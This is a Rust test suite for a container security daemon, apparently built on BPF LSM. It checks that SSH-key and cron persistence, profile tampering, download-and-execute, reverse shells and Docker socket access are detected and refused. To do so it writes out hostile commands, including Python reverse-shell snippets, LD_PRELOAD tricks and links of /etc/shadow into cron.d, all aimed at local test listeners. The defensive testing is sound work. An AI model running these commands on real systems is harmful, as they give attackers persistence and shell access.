//! What LSM programs refuse before it happens, and what is done about the same acts on kernels without
//! them. With `bpf` among the active security modules a refusal must be theirs: the same tests fail
//! when one of those programs stops refusing.

use crate::attacks::{Stage, stage};
use crate::container::Container;
use crate::daemon::{ALERT_WAIT, is_alert, outcome};
use crate::lab::Peer;
use crate::{pace, shared};
use anyhow::{Context, Result, ensure};
use serde_json::Value;
use std::fs;
use std::io::Read as _;
use std::os::unix::net::UnixListener;
use std::sync::Arc;
use std::sync::atomic::{AtomicUsize, Ordering};
use std::time::Duration;

impl Stage {
    /// The alert about a file, and that it was dealt with as this kernel can.
    fn alert(&self, kind: &str, file: &str, mode: &str) -> Result<Value> {
        let alert = self.watch.daemon.await_row(&format!("{kind} of {file}"), ALERT_WAIT, |row| {
            let path = row["file"]["path"].as_str().unwrap_or_default();
            is_alert(row, kind, self.container.id()) && path.ends_with(file)
        })?;
        if mode == "monitor" {
            ensure!(outcome(&alert) == "observed", "{mode}: outcome {}", outcome(&alert));
        } else if lsm() {
            let by = &alert["bulkhead"]["enforced_by"];
            ensure!(by == "lsm", "{kind} of {file} was enforced by {by} although LSM programs are active");
        }
        Ok(alert)
    }
}

/// Do BPF LSM programs fire on this kernel?
pub fn lsm() -> bool {
    let active = fs::read_to_string("/sys/kernel/security/lsm").unwrap_or_default();
    active.trim().split(',').any(|name| name == "bpf")
}

/// Keys and crontabs that are never opened under their final name.
pub fn names_are_refused() -> Result<()> {
    let acts = [
        ("persistence_ssh_key", "mv /tmp/x /home/a/.ssh/authorized_keys", "/home/a/.ssh/authorized_keys"),
        ("persistence_ssh_key", "cd /home/b/.ssh && mv /tmp/x authorized_keys", "/home/b/.ssh/authorized_keys"),
        (
            "persistence_ssh_key",
            "cd /home/c && mv /tmp/x ./.ssh/../.ssh/authorized_keys",
            "/home/c/.ssh/authorized_keys",
        ),
        ("persistence_ssh_key", "ln /home/d/.ssh/x /home/d/.ssh/authorized_keys", "/home/d/.ssh/authorized_keys"),
        ("persistence_ssh_key", "ln -s /tmp/x /home/e/.ssh/authorized_keys", "/home/e/.ssh/authorized_keys"),
        ("persistence_cron", "mv -t /etc/cron.d /tmp/x", "/etc/cron.d/x"),
        ("persistence_cron", "ln /etc/shadow /etc/cron.d/y", "/etc/cron.d/y"),
    ];
    for mode in ["monitor", "protect"] {
        let stage = stage(mode)?;
        stage.container.run(
            "mkdir -p /etc/cron.d; for h in a b c d e; do mkdir -p /home/$h/.ssh; echo attacker > /home/$h/.ssh/x; done",
        )?;
        for (kind, act, file) in acts {
            stage.container.run("echo attacker > /tmp/x")?;
            stage.container.run(act)?;
            // The last door knows the last three components of a path.
            let known = file.strip_prefix("/home").unwrap_or(file);
            stage.alert(kind, known, mode).with_context(|| format!("{mode}: {act}"))?;
            if mode == "monitor" {
                ensure!(stage.has(file), "monitor mode touched it, or the act is broken: {act}");
            } else if lsm() {
                ensure!(!stage.has(file), "{file} exists after: {act}");
            }
        }
    }
    Ok(())
}

/// `sed -i` writes a file of its own and renames it over the old one.
pub fn rename_over_profile_is_refused() -> Result<()> {
    for mode in ["monitor", "protect"] {
        let stage = stage(mode)?;
        ensure!(stage.has("/etc/profile"), "the stage has no /etc/profile");
        stage.container.run("sed -i '1i touch /tmp/ran # attacker' /etc/profile")?;
        stage.alert("persistence_other", "/etc/profile", mode)?;
        let written = stage.holds("/etc/profile", "attacker");
        ensure!(mode == "protect" || written, "monitor mode touched it");
        ensure!(!(mode == "protect" && lsm() && written), "the file was replaced");
    }
    Ok(())
}

/// With LSM the file does not come into being; without, it stays empty.
pub fn creation_is_refused() -> Result<()> {
    let stage = stage("protect")?;
    stage.container.run("mkdir -p /etc/cron.d; echo '* * * * * root true' > /etc/cron.d/attacker")?;
    stage.alert("persistence_cron", "/etc/cron.d/attacker", "protect")?;
    ensure!(!stage.holds("/etc/cron.d/attacker", "root"), "the cron line was written");
    ensure!(!(lsm() && stage.has("/etc/cron.d/attacker")), "the file was made");
    Ok(())
}

/// A downloaded program as itself, by way of the dynamic loader, and as a library.
pub fn downloaded_code_never_runs() -> Result<()> {
    let program = fs::read("/usr/bin/touch").context("read a program to be served")?;
    let acts = [
        ("chmod +x /tmp/p; /tmp/p /tmp/ran", true),
        ("/lib64/ld-linux-x86-64.so.2 /tmp/p /tmp/ran", true),
        // Not a library, but mapped as one before that is found out.
        ("LD_PRELOAD=/tmp/p /usr/bin/true", false),
    ];
    for mode in ["monitor", "protect"] {
        let stage = stage(mode)?;
        let peer = Peer::web(stage.container.listen()?, &program)?;
        for (act, runs) in acts {
            // Each time another file: an alert about it cannot be one of before.
            let file = format!("/tmp/p{}", act.len());
            let act = act.replace("/tmp/p", &file);
            stage.container.run(&format!("rm -f /tmp/ran; curl -s -o {file} http://127.0.0.1:{}/p", peer.port))?;
            ensure!(stage.has(&file), "the download itself did not work");
            stage.container.run(&act)?;
            stage.alert("download_exec", &file, mode).with_context(|| format!("{mode}: {act}"))?;
            ensure!(stage.has("/tmp/ran") == (runs && mode == "monitor"), "{mode}: wrong effect of: {act}");
        }
    }
    Ok(())
}

/// A service that unpacks a library and loads it (every Java program with native code) is left alone.
pub fn own_library_is_no_finding() -> Result<()> {
    let stage = stage("protect")?;
    let peer = Peer::web(stage.container.listen()?, b"hello")?;
    let script = format!(
        "python3 -c 'import urllib.request, shutil, ctypes, glob\n\
         urllib.request.urlopen(\"http://127.0.0.1:{}/\").read()\n\
         source = glob.glob(\"/lib/*/libz.so.1*\") + glob.glob(\"/usr/lib/*/libz.so.1*\")\n\
         shutil.copyfile(source[0], \"/tmp/libunpacked.so\")\n\
         ctypes.CDLL(\"/tmp/libunpacked.so\")\n\
         open(\"/tmp/loaded\", \"w\")'",
        peer.port
    );
    stage.container.run(&script)?;
    ensure!(stage.has("/tmp/loaded"), "the service did not get to the end");
    std::thread::sleep(pace::wait(Duration::from_millis(300)));
    let found = stage.watch.daemon.alerts("download_exec", stage.container.id());
    ensure!(found.is_empty(), "{found:?}");
    Ok(())
}

/// A shell on connections that are its standard input and output already. Nothing has moved them there: they were made
/// with these numbers, as the lowest that are free. (Who moves one is stopped by that, before there is a shell:
/// [`connection_on_stdio_is_no_shell`].) Refused before it becomes a shell.
pub fn shell_on_a_socket_never_starts() -> Result<()> {
    const SHELL: &str = "import os, socket\n\
         os.close(0); os.close(1)\n\
         a = socket.create_connection((\"127.0.0.1\", PORT))\n\
         b = socket.create_connection((\"127.0.0.1\", PORT))\n\
         assert (a.fileno(), b.fileno()) == (0, 1)\n\
         os.set_inheritable(0, True); os.set_inheritable(1, True)\n\
         os.execv(\"/bin/sh\", [\"sh\", \"-i\"])";
    let stage = stage("protect")?;
    let alert = never_starts(&stage, SHELL)?;
    let by = &alert["bulkhead"]["enforced_by"];
    ensure!(by == if lsm() { "lsm" } else { "signal" }, "enforced by {by}: {alert}");
    Ok(())
}

/// A program that starts a shell on its connection moves it to where a child's standard input and output are, and dies
/// of that: by a signal on every kernel, as no security module is asked.
pub fn connection_on_stdio_is_no_shell() -> Result<()> {
    const SHELL: &str = "import socket, subprocess\n\
         s = socket.create_connection((\"127.0.0.1\", PORT))\n\
         subprocess.call([\"/bin/sh\", \"-i\"], stdin=s, stdout=s, stderr=s)";
    let stage = stage("protect")?;
    let alert = never_starts(&stage, SHELL)?;
    let (by, what) = (&alert["bulkhead"]["enforced_by"], &alert["bulkhead"]["evidence"][0]["what"]);
    ensure!(by == "signal" && what == "stdio_moved_to_outbound_socket", "{alert}");
    Ok(())
}

/// Runs a program of python's against a listener that types a command into every connection.
fn never_starts(stage: &Stage, program: &str) -> Result<Value> {
    let peer = Peer::shell(stage.container.listen()?, "touch /tmp/ran\n", pace::wait(Duration::from_secs(3)))?;
    stage.container.run(&format!("python3 -c '{}'", program.replace("PORT", &peer.port.to_string())))?;
    let alert = stage.watch.daemon.await_alert("reverse_shell", stage.container.id())?;
    ensure!(!stage.has("/tmp/ran"), "the attacker's command ran");
    ensure!(peer.received() == 0, "the attacker received {} bytes", peer.received());
    Ok(alert)
}

/// The runtime's socket, under another path: with LSM there is no connection, without not one byte.
pub fn runtime_socket_is_refused() -> Result<()> {
    for mode in ["monitor", "protect"] {
        let host = tempfile::tempdir()?;
        let listener = UnixListener::bind(host.path().join("docker.sock"))?;
        fs::rename(host.path().join("docker.sock"), host.path().join("innocent"))?;
        let (accepted, received) = (Arc::new(AtomicUsize::new(0)), Arc::new(AtomicUsize::new(0)));
        let counters = (accepted.clone(), received.clone());
        std::thread::spawn(move || {
            for mut stream in listener.incoming().flatten() {
                counters.0.fetch_add(1, Ordering::SeqCst);
                let mut bytes = [0; 512];
                let count = stream.read(&mut bytes).unwrap_or(0);
                counters.1.fetch_add(count, Ordering::SeqCst);
            }
        });
        let watch = shared::watch(mode)?;
        let container = Container::start_with(&watch.group, Some(host.path()))?;
        container.run("curl -s -m 2 --unix-socket /mnt/innocent http://x/version")?;
        let alert = watch.daemon.await_alert("docker_socket", container.id())?;
        std::thread::sleep(pace::wait(Duration::from_millis(100)));
        let (accepted, received) = (accepted.load(Ordering::SeqCst), received.load(Ordering::SeqCst));
        if mode == "monitor" {
            ensure!(received > 0, "monitor mode touched it, or the stage is broken");
            continue;
        }
        ensure!(received == 0, "the runtime received {received} bytes");
        if lsm() {
            ensure!(accepted == 0, "the connection was made");
            ensure!(alert["bulkhead"]["enforced_by"] == "lsm", "by {}", alert["bulkhead"]["enforced_by"]);
        }
    }
    Ok(())
}
